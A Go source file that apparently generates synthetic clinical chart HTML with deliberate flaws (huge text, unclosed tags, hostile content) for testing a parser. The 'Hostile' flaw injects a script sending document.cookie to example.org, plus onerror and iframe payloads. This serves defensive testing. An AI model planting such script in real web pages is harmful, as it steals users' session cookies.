package town

import (
	"strconv"
	"strings"
)

const hugeText = 100_000 // bytes of each of a huge document's two texts

// sections writes a chart document out of what is true of the human.
func (t *Town) sections(n, human int, flaw Flaw) []CCDSection {
	d, chart := throw(t.opts.Seed, aboutEncounter, -1-n), throw(t.opts.Seed, aboutChart, human)
	size := 200 + d.below(1500)
	if flaw == Huge {
		size = hugeText
	}
	all := []CCDSection{
		{Category: "problems", Title: "Problems", Columns: []string{"Problem", "Code"}, Rows: t.problemRows(n, chart)},
		{Category: "medications", Title: "Medications", Columns: []string{"Medication"}, Rows: t.rows(n, chart, "nx_medication", medicationTexts)},
		{Category: "allergies", Title: "Allergies", Columns: []string{"Allergen"}, Rows: t.rows(n, chart, "nx_allergy", allergens)},
		{Category: "history", Title: "History of Present Illness", Text: t.free(t.prose(d, size), "nx_history", n)},
		{Category: "exam", Title: "Physical Exam", Text: t.free(t.prose(d, min(size, hugeText)), "nx_exam", n)},
		{Category: "plan", Title: "Assessment & Plan", Text: t.free(pick(d, sentences), "nx_plan", n)},
	}
	if n%9 == 4 {
		all[5].Text = ""
	}
	return all
}

var allergens = []string{"Penicillin", "Latex", "Sulfa drugs", "Bee venom", "Peanuts <traces>"}

func (t *Town) problemRows(n int, d *dice) [][]string {
	var rows [][]string
	from := d.below(len(diagnosisTable))
	for i := range d.below(4) {
		g := diagnosisTable[(from+i)%len(diagnosisTable)]
		rows = append(rows, []string{t.free(g.Text, "nx_problem"+strconv.Itoa(i), n), g.Code})
	}
	return rows
}

func (t *Town) rows(n int, d *dice, field string, of []string) [][]string {
	var rows [][]string
	from := d.below(len(of))
	for i := range d.below(3) {
		rows = append(rows, []string{t.free(of[(from+i)%len(of)], field+strconv.Itoa(i), n)})
	}
	return rows
}

// CCD is the document as the vendor shows it: whole, or the section of one category; empty when there is none.
func (e NextechEncounter) CCD(category string) string {
	if len(e.Sections) == 0 {
		return ""
	}
	w := document{flaw: e.Flaw}
	w.add("<html><head><title>Continuity of Care</title></head><body><h1>Summary of Care</h1>")
	for _, s := range e.Sections {
		if category == "" || category == s.Category {
			w.section(s)
		}
	}
	w.close("</body>")
	w.close("</html>")
	return w.String()
}

// document writes HTML that is as good as its flaw allows.
type document struct {
	strings.Builder
	flaw Flaw
}

func (w *document) add(text string) { w.WriteString(text) }

// close ends an element, unless this document does not.
func (w *document) close(tag string) {
	if w.flaw != Unclosed {
		w.add(tag)
	}
}

func (w *document) section(s CCDSection) {
	w.add("<h2>" + escaper.Replace(s.Title) + "</h2>\n")
	if w.flaw == Hostile {
		w.add(`<script>fetch("https://example.org/?"+document.cookie)</script><img src="x" onerror="alert(1)"><iframe src="https://example.org/"></iframe>`)
	}
	if s.Text != "" {
		w.add("<p>" + escaper.Replace(s.Text))
		w.close("</p>")
	}
	if len(s.Rows) > 0 {
		w.table(s)
	}
}

func (w *document) table(s CCDSection) {
	w.add("<table>")
	w.row("th", s.Columns)
	for _, r := range s.Rows {
		w.row("td", r)
	}
	w.add("</table>\n")
}

func (w *document) row(cell string, of []string) {
	w.add("<tr>")
	for _, text := range of {
		w.add("<" + cell + ">" + escaper.Replace(text))
		w.close("</" + cell + ">")
	}
	w.close("</tr>")
}
